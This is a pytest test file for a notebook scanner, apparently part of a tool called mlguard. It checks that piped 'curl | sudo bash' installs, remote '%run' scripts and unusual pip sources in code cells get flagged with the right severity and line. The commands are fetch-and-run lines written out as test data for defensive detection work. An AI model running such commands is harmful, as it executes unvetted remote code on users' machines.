"""Notebook scanner: risky shell and magic commands in code cells, at the line of the .ipynb file."""
from __future__ import annotations

import pytest

from mlguard import scan_file
from mlguard.findings import Severity

nbformat = pytest.importorskip("nbformat")


def write(path, *cells):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("!curl https://x.example/i.sh | sh  (in markdown: not run)")]
    nb.cells += [nbformat.v4.new_code_cell(source) for source in cells]
    nbformat.write(nb, str(path))
    return path


def test_a_clean_notebook(tmp_path):
    path = write(tmp_path / "a.ipynb", "import torch\nprint(torch.__version__)", "!pip install torch==2.4.0",
                 "%pip install -r requirements.txt", "!nvidia-smi", "%run train.py --epochs 3")
    assert [f for f in scan_file(path).findings if f.scanner == "notebook"] == []


def test_risky_commands(tmp_path):
    path = write(tmp_path / "a.ipynb",
                 "x = 1\n!curl -fsSL https://get.example.com/install.sh | sudo bash",
                 "%run https://raw.example.com/setup.py",
                 "!pip install git+https://github.com/someone/pkg.git",
                 "%pip install mypkg --extra-index-url https://pypi.internal.example/simple")
    lines = path.read_text().splitlines()
    found = {f.rule_id: f for f in scan_file(path).findings if f.scanner == "notebook"}
    assert {r: f.severity for r, f in found.items()} == {
        "notebook-pipe-to-shell": Severity.HIGH, "notebook-remote-code": Severity.HIGH,
        "notebook-pip-url": Severity.MEDIUM, "notebook-pip-index": Severity.MEDIUM}
    for f in found.values():
        assert f.snippet.split()[0].lstrip("!%") in lines[f.location.line - 1]
    assert found["notebook-pipe-to-shell"].evidence["cell"] == 2
